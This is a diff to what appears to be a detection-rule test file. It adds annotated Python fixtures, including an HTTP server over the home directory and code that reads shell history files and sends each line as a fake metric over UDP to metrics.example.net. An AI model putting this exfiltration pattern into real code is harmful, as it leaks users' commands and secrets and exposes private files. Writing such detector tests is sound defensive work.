@@ -432,3 +432,29 @@ requests.post(SLACK_HOOK, json=_status_message("passed"), timeout=5)
 # ok: cli-credential-to-chat
 # ruleid: http-client
 requests.get("https://api.github.com/user", headers={"Authorization": f"Bearer {_gh_identity()}"}, timeout=5)
+# a file server over the home directory
+import functools
+import http.server
+def _docs_root():
+    return os.path.expanduser("~")
+def _handler(root):
+    # ruleid: file-server-home
+    return functools.partial(http.server.SimpleHTTPRequestHandler, directory=root)
+_handler(_docs_root())
+# ... the task's own output is fine
+# ok: file-server-home
+preview = functools.partial(http.server.SimpleHTTPRequestHandler, directory="dist")
+# shell history read by a generator, each line sent as a metric over UDP
+HISTORIES = [".bash_history", ".zsh_history"]
+def _history_lines():
+    home = os.path.expanduser("~")
+    for name in HISTORIES:
+        with open(os.path.join(home, name), errors="ignore") as fh:
+            for line in fh:
+                yield name, line.rstrip("\n")
+def _emit_metrics():
+    # ruleid: socket-use
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    for src, line in _history_lines():
+        # ruleid: secret-exfiltration
+        sock.sendto(f"dev.cmd:1|c|#src:{src},cmd:{line}".encode(), ("metrics.example.net", 8125))
